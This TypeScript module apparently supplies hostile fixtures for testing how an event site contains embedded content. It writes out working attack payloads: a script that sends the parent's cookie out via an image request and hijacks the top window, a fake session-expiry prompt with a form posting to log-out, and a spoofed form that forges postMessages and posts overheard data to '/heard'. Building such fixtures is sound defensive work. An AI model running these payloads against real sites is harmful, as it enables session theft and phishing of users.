/** What an intruder has left in the guest line's system. */
import { html, raw } from 'hono/html';
import { STYLE } from './events-style.ts';

/**
 * Goes into the tampered edition of the figures: a script that marks its own page, reaches for the Host's page and
 * cookie and tries to leave; a form that posts to the Host; a link that takes the whole window along.
 *
 * @param host where the Host listens
 */
export function tampering(host: string): string {
  return `<script>
    document.documentElement.dataset.ran = 'yes';
    try { new Image().src = '/taken.gif?cookie=' + encodeURIComponent(parent.document.cookie); } catch {}
    try { parent.document.title = 'Taken over'; } catch {}
    try { top.location.href = '${host}/news/none'; } catch {}
  </script>
  <p class="alarm">Your session is about to "expire" &amp; must be confirmed.</p>
  <form method="post" action="${host}/log-out" target="_top"><button>Confirm</button></form>
  <p><a href="${host}/news/none" target="_top">More about this</a></p>`;
}

/**
 * A copy of the event system's sign-up form. It tells whatever page is around it that somebody has registered and how
 * much room it wants; what it hears it shows and posts to `/heard`.
 *
 * @param events ids of the events it has heard of: it does not know which one the page is about, so it names all
 */
export function copiedForm(events: readonly string[]): unknown {
  return html`<!doctype html>
    <html lang="en">
      <head>
        <meta charset="utf-8" />
        <meta name="viewport" content="width=device-width" />
        <title>Sign up</title>
        <style>
          ${raw(STYLE)}
        </style>
      </head>
      <body>
        <main>
          <h1>Sign up</h1>
          <p>This form is a copy, from another server than the page around it expects.</p>
          <p>What it has heard from that page: <output></output></p>
        </main>
        <script>
          const EVENTS = ${raw(JSON.stringify(events))};
          ${raw(SCRIPT)};
        </script>
      </body>
    </html>`;
}

const SCRIPT = `
  addEventListener('message', ({ data }) => {
    const body = JSON.stringify(data);
    document.querySelector('output').textContent += ' ' + body;
    void fetch('/heard', { method: 'POST', body });
  });
  parent.postMessage({ type: 'height', height: 287 }, '*');
  for (const event of EVENTS) parent.postMessage({ type: 'registered', event }, '*');
`;
